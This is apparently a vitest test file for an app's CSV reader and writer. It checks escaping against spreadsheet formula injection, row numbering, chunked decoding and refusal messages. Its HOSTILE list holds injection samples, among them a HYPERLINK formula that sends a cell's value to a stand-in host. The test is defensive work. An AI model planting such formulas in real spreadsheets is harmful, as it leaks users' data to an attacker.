import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { numberColumn, readCsv, textColumn, withoutSpreadsheetEscape, writeCsv } from './csv.ts';
import { AppError } from './errors.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&C3,"Verify")',
  '@SUM(1)',
  '+1',
  '-1',
  '\tTab',
  '\rReturn',
  "'+1",
];

/** Every record of `text` as readCsv gives them. */
async function records(text: string): Promise<{ cells: string[]; row: number }[]> {
  const read: { cells: string[]; row: number }[] = [];
  await readCsv(text, (cells, row) => read.push({ cells, row }));
  return read;
}

const refusal = async (text: string) => {
  const error = await readCsv(text, () => {}).then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(AppError);
  return (error as AppError).message;
};

describe('writeCsv', () => {
  it('starts with a byte-order mark and defuses every text cell a spreadsheet would run, and only those', () => {
    const csv = writeCsv(
      [...HOSTILE.map((name) => [name, '-12.00']), ['Meera Iyer', '0.1%'], ['मीरा', '']],
      [textColumn('Name'), numberColumn('Amount (₹)')],
    );
    expect(csv.startsWith('\uFEFFName,Amount (₹)\n')).toBe(true);
    const rows = parse(csv, { bom: true, columns: true }) as { Name: string; 'Amount (₹)': string }[];
    expect(rows.map((row) => row.Name)).toEqual([...HOSTILE.map((name) => `'${name}`), 'Meera Iyer', 'मीरा']);
    // A negative amount is a number to sum, not a formula: Haat formatted it.
    expect(rows.map((row) => row['Amount (₹)'])).toEqual([...HOSTILE.map(() => '-12.00'), '0.1%', '']);
    expect(rows.map((row) => withoutSpreadsheetEscape(row.Name))).toEqual([...HOSTILE, 'Meera Iyer', 'मीरा']);
  });

  it('defuses a number column’s cell that is not a plain number, and refuses a row of the wrong width', () => {
    const csv = writeCsv([['=1+2']], [numberColumn('Amount')]);
    expect(csv).toBe("\uFEFFAmount\n'=1+2\n");
    expect(() => writeCsv([['a', 'b']], [textColumn('One')])).toThrow(/2 cells for 1 columns/);
  });
});

describe('readCsv', () => {
  it('numbers records as a spreadsheet numbers rows: blank lines count, a cell’s line breaks do not', async () => {
    expect(await records('\uFEFFa,b\r\n\r\n"x\r\ny",2\r\n,\r\nlast')).toEqual([
      { cells: ['a', 'b'], row: 1 },
      { cells: [''], row: 2 },
      { cells: ['x\r\ny', '2'], row: 3 },
      { cells: ['', ''], row: 4 },
      { cells: ['last'], row: 5 },
    ]);
  });

  it('reads a file in slices without breaking a character that straddles two', async () => {
    // An emoji is two UTF-16 units; put one across the 64 KiB slice boundary.
    const text = `${'x'.repeat(64 * 1024 - 1)}😀ok\nनमस्ते`;
    expect(await records(text)).toEqual([
      { cells: [`${'x'.repeat(64 * 1024 - 1)}😀ok`], row: 1 },
      { cells: ['नमस्ते'], row: 2 },
    ]);
  });

  it('stops at once when the reader throws: the rest of the file is never parsed', async () => {
    const text = 'x\n'.repeat(4_000_000);
    let seen = 0;
    const stop = new AppError('validation_failed', 'enough');
    await expect(
      readCsv(text, () => {
        seen += 1;
        if (seen === 10) throw stop;
      }),
    ).rejects.toBe(stop);
    expect(seen).toBe(10);
  });

  it('says what to do with a file that is not CSV, instead of the parser’s own message', async () => {
    const png = new TextDecoder().decode(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0]));
    expect(await refusal(png)).toMatch(/^This file is not a CSV: .*Save your sheet as CSV UTF-8/);
    const quote = await refusal('sku,name\nA-1,"Kurta" blue\n');
    expect(quote).toBe(
      'The file could not be read from row 2: a quote mark (") there does not open or close a cell the way CSV needs. Save your sheet as CSV UTF-8 from the spreadsheet and choose that file again.',
    );
    expect(await refusal('sku,name\nA-1,ok\nA-2,"never closed\n')).toMatch(
      /^The file could not be read from row 3: a quote/,
    );
  });

  it('refuses a record that runs on (a quote never closed, a wall of commas) before it holds the heap', async () => {
    const open = `sku,name\nA-1,"${'x'.repeat(2_000_000)}\n`;
    expect(await refusal(open)).toMatch(/^Row 2 is too long to read; often a quote mark/);
    expect(await refusal(`sku,name\n${','.repeat(4_000_000)}\n`)).toMatch(/^Row 2 is too long to read/);
  });
});

describe('every CSV Haat writes goes through lib/csv.ts', () => {
  it('leaves csv-stringify to this file alone', () => {
    const sources = path.join(import.meta.dirname, '..', '..');
    const writers = readdirSync(sources, { recursive: true, encoding: 'utf8' })
      .filter((file) => /\.tsx?$/.test(file))
      .filter((file) => /from ['"]csv-stringify/.test(readFileSync(path.join(sources, file), 'utf8')));
    expect(writers).toEqual([path.join('server', 'lib', 'csv.ts')]);
  });
});
